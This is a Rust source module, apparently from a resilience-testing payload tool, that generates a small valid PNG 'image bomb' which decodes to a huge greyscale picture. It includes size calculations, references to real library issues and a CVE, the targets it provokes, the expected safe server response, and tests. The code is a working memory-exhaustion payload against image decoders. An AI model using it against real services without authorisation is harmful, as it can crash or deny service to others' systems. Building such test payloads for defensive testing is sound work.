//! A small, valid PNG that decodes to a huge picture.

use bytes::Bytes;

use crate::payload::pieces::once;
use crate::payload::zeros::{Deflated, adler_of_zeros};
use crate::payload::{About, Body, Family, Form, Group, Parameter, Takes, Turn, Values};

/// The family.
pub(super) const FAMILY: &Family = &Family {
    name: "image-bomb",
    group: Group::Images,
    about: About {
        summary: "A small PNG that decodes to a huge picture.",
        provokes: "Thumbnailers, avatar and evidence uploads, preprocessing for vision models: the decoder allocates width × height before anybody looks.",
        seen: "Pillow issue 515, thumbor issue 604, CVE-2022-45198.",
        becomes: "8 bit grey of 20,000 × 20,000 is 390 kB on the wire, 400 MB decoded, 1.6 GB as RGBA, and a resized copy on top.",
        safe: "4xx after the 33 bytes of the header; Pillow refuses above 179 million pixels by itself.",
    },
    parameters: &[
        Parameter { name: "format", about: "the picture format", takes: Takes::Word(&["png"]) },
        Parameter { name: "width", about: "pixels", takes: SIDE },
        Parameter { name: "height", about: "pixels", takes: SIDE },
    ],
    form: Form::Body(make),
};

/// PNG allows 2^31 − 1 pixels each way; beyond this a side says nothing new.
const SIDE: Takes = Takes::Count { least: 1, most: 1 << 20, default: 20_000 };

fn make(values: &Values, _: &Turn) -> Body {
    let (width, height) = (values.number("width") as u32, values.number("height") as u32);
    Body::new("image/png", size(width, height), chunks(width, height))
}

const SIGNATURE: &[u8] = b"\x89PNG\r\n\x1a\n";
/// RFC 1950: deflate, 32 KiB window, no dictionary, default level.
const ZLIB: [u8; 2] = [0x78, 0x9c];
/// Length, type and sum around the data of each chunk.
const AROUND: u64 = 12;

fn size(width: u32, height: u32) -> u64 {
    let deflated = Deflated::zeros(raw(width, height));
    let parts = deflated.parts() + 2;
    let data = deflated.size() + ZLIB.len() as u64 + 4;
    let ends = SIGNATURE.len() as u64 + (AROUND + 13) + AROUND;
    data + parts * AROUND + ends
}

fn chunks(width: u32, height: u32) -> impl Iterator<Item = Bytes> + Send {
    let raw = raw(width, height);
    let mut header = Vec::with_capacity(13);
    header.extend(width.to_be_bytes());
    header.extend(height.to_be_bytes());
    // 8 bits, grey, deflate, adaptive filters, not interlaced.
    header.extend([8, 0, 0, 0, 0]);
    let data = once(&ZLIB[..]).chain(Deflated::zeros(raw).chunks());
    let data = data.chain(once(adler_of_zeros(raw).to_be_bytes().to_vec()));
    once(SIGNATURE)
        .chain(once(section(b"IHDR", &header)))
        .chain(data.map(|data| section(b"IDAT", &data)))
        .chain(once(section(b"IEND", &[])))
}

/// Bytes before compression: a filter byte (0: none) and a byte for each pixel of a row.
fn raw(width: u32, height: u32) -> u64 {
    (u64::from(width) + 1) * u64::from(height)
}

/// A chunk of the PNG format: length, type, data, CRC-32 of type and data.
fn section(kind: &[u8; 4], data: &[u8]) -> Bytes {
    let mut section = Vec::with_capacity(data.len() + AROUND as usize);
    section.extend((data.len() as u32).to_be_bytes());
    section.extend(kind);
    section.extend(data);
    let sum = crc32fast::hash(&section[4..]);
    section.extend(sum.to_be_bytes());
    section.into()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn decoded(width: u32, height: u32) -> Vec<u8> {
        let wire: Vec<u8> = chunks(width, height).flatten().collect();
        let mut reader = png::Decoder::new(std::io::Cursor::new(wire)).read_info().unwrap();
        let mut pixels = vec![1; reader.output_buffer_size().unwrap()];
        let frame = reader.next_frame(&mut pixels).unwrap();
        assert_eq!((frame.width, frame.height), (width, height));
        reader.finish().unwrap();
        pixels
    }

    #[test]
    fn a_real_decoder_reads_every_pixel() {
        for (width, height) in [(1, 1), (3, 7), (1000, 800), (10_000, 3000)] {
            let pixels = decoded(width, height);
            assert_eq!(pixels.len(), width as usize * height as usize);
            assert!(pixels.iter().all(|pixel| *pixel == 0));
        }
    }

    #[test]
    fn four_hundred_million_pixels_are_under_400_kb_on_the_wire() {
        let wire: u64 = chunks(20_000, 20_000).map(|chunk| chunk.len() as u64).sum();
        assert_eq!(wire, size(20_000, 20_000));
        assert!((380_000..400_000).contains(&wire), "{wire}");
    }
}
